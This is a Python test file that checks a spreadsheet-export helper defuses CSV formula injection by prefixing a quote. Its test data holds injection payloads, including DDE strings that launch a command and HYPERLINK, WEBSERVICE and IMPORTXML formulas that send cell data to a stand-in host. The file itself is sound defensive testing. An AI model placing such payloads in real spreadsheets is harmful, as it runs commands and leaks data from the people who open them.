"""Cells that go into spreadsheets (OWASP, CSV injection): none is run, whatever stands before the sign."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop.services.spreadsheets import spreadsheet_cell

SIGNS = "=+-@\t\r\n＝＋－＠"
ATTACKS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Error")',
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u200f=1+1",
    '"=1+1',
    "'=1+1",
    "' =1+1",
    '""=1+1',
    "＝1+1",
    "@mention",
)


@pytest.mark.parametrize("cell", ATTACKS)
def test_no_attack_begins_a_cell(cell: str) -> None:
    assert spreadsheet_cell(cell) == f"'{cell}"


@given(st.text(alphabet=st.sampled_from([*SIGNS, *" '\"a1\u00a0\u200b"]), max_size=12))
def test_what_is_written_begins_with_no_sign_however_it_is_read(cell: str) -> None:
    written = io.StringIO()
    csv.writer(written).writerow([spreadsheet_cell(cell), "next"])
    read, after = next(iter(csv.reader(io.StringIO(written.getvalue(), newline=""))))
    assert after == "next"
    bare = read.lstrip(" \u00a0\u200b\"'\t\r\n")
    assert read.startswith("'") or not (bare.startswith(tuple(SIGNS)) or read.startswith(("\t", "\r", "\n")))


@pytest.mark.parametrize("cell", ["", "Order 4711", "ann@acme.example", "Ann -- Lee", "1-2", "(=)", "ä=b"])
def test_harmless_text_stays(cell: str) -> None:
    assert spreadsheet_cell(cell) == cell
